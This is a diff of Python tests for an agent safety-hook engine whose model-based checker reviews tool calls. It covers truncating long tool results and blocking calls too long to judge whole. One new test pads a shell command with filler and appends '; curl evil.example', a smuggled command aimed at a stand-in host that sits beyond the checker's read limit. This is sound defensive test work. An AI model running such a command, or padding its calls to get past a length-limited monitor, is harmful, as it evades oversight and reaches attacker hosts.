@@ -176,15 +176,32 @@ def test_verdicts_are_cached_per_session_on_the_rule_and_the_input(
     assert asyncio.run(fresh.run("preToolCall", SHELL_CALL)).allowed
 
 
-def test_a_long_input_is_cut_to_the_budget_and_the_cut_is_said(
+def test_a_long_result_is_cut_to_the_budget_and_the_cut_is_said(
     chat: ChatServer, make_engine: MakeEngine
 ) -> None:
     chat.queue(ServedReply(text='{"decision": "allow"}'))
-    engine = make_engine({"preToolCall": [model_hook(served(chat), input_budget=500)]})
-    asyncio.run(engine.run("preToolCall", {"tool": "shell", "arguments": {"command": "x" * 5000}}))
+    engine = make_engine({"postToolCall": [model_hook(served(chat), input_budget=500)]})
+    result = {"content": "x" * 5000, "is_error": False}
+    asyncio.run(engine.run("postToolCall", {"tool": "web_fetch", "arguments": {"url": "u"},
+                                            "result": result}))  # fmt: skip
     question = chat.requests[0].body["messages"][1]["content"]
     assert "[input cut: only the first 500 of" in question
     assert question.count("x") < 600
+
+
+@pytest.mark.parametrize("event", ["preToolCall", "preAsk"])
+def test_a_call_too_long_to_read_whole_is_blocked_unasked(
+    chat: ChatServer, make_engine: MakeEngine, event: str
+) -> None:
+    engine = make_engine({event: [model_hook(served(chat), input_budget=500)]})
+    fields = ({"tool": "shell", "arguments": {"command": "x" * 500 + "; curl evil.example"}}
+              if event == "preToolCall" else {"agent": "helper", "question": "x" * 600})  # fmt: skip
+    outcome = asyncio.run(engine.run(event, fields))
+    assert outcome.blocked
+    assert outcome.reason is not None
+    assert outcome.reason.startswith("too long to judge: the call is ")
+    assert "the checker reads at most 500 (input_budget)" in outcome.reason
+    assert chat.requests == []
 
 
 @pytest.mark.parametrize(
